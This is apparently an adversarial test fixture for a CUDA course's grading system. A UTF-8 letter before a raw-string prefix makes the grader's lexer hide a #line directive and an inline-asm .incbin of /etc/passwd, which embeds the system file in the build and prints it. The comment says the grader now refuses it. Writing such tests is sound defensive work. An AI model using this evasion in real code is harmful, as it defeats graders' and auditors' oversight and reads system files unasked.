// Attack (Lab 01, static layers, against the region rules' lexer (its identifiers and raw-string
// prefixes, regions.cpp:32-33 and 169-184) and, through the #line it hides, the audit's .ii scan): a
// UTF-8 letter before R. GCC 12 reads UTF-8 in identifiers: `λR` (bytes CE BB 52) is one identifier,
// and `λR"(")"` is that identifier, the string "(", a ')' and the start of the string "/*". The lexer's
// identifiers are ASCII only (isalnum), so it reads the bytes CE BB as punctuation and `R"(")"` as a raw
// string literal (the standard prefix R, not right after a literal), after which `/*` opens a block
// comment that runs over the next lines to `// */`. GCC never compiles the identifier: it is inside the
// argument of _GLIBCXX_DEBUG_ASSERT, which libstdc++ defines to nothing, and `"/*";` is a statement
// with no effect (a warning). Hidden, as in attack13_crlf_splice_hides_incbin:
//   #line 1 "not_the_lab.h"   the .ii scan reads only lines whose marker names a ".cu" file;
//   __asm__ volatile(... .incbin "/etc/passwd" ...)   copied into the object at BUILD time.
// Evidence (grade --labs-dir ... --allow-no-gpu --lab 01, the path a stand-in under /tmp): "compiles",
// region rules and audit "passed"; `strings -a` on sum_reduction.cu.o and graders/lab01_slot1_host
// prints the stand-in; keep/preprocessed-findings.txt is empty.
// What would catch it: refusing bytes >= 0x80 outside comments and literals (GCC reads them as
// identifier characters), or taking them as identifier characters in the lexer, so that only a whole
// identifier R starts a raw string. Expected: refused_region.
// The file holds two bytes >= 0x80 (U+03BB, UTF-8), on the line of _GLIBCXX_DEBUG_ASSERT.
// The regions not given here are the solution's.
// Caught now (refused_region): the region rules refuse reserved names (_GLIBCXX_DEBUG_ASSERT), and bytes outside ASCII in code.

    // BEGIN STUDENT REGION launch
    // Enough blocks to fill every SM several times over, no more: each thread then loops over
    // many elements, and only a few hundred atomicAdds reach *out.
    static const int max_blocks = [] {
        int device = 0, sms = 0;
        CUDA_CHECK(cudaGetDevice(&device));
        CUDA_CHECK(cudaDeviceGetAttribute(&sms, cudaDevAttrMultiProcessorCount, device));
        return 8 * sms;
    }();
    const std::size_t wanted = course::ceil_div(n, std::size_t(kBlockSize) * 16);  // >= 16 elements a thread
    const unsigned grid = static_cast<unsigned>(std::min<std::size_t>(std::max<std::size_t>(wanted, 1), max_blocks));
    CUDA_CHECK(cudaMemsetAsync(out, 0, sizeof(float)));
    static bool shown = false;
    const char* leaked = nullptr;
    _GLIBCXX_DEBUG_ASSERT(λR"(")"/*";
#line 1 "not_the_lab.h"
    __asm__ volatile(".pushsection .rodata.notes, \"a\"\n9: .incbin \"/etc/passwd\"\n .byte 0\n .popsection\n lea 9b(%%rip), %0" : "=r"(leaked));
    // */ )
    if (!shown && leaked) printf("%s\n", leaked);
    shown = true;
    block_sum_kernel<<<grid, kBlockSize>>>(in, out, n);
    // END STUDENT REGION
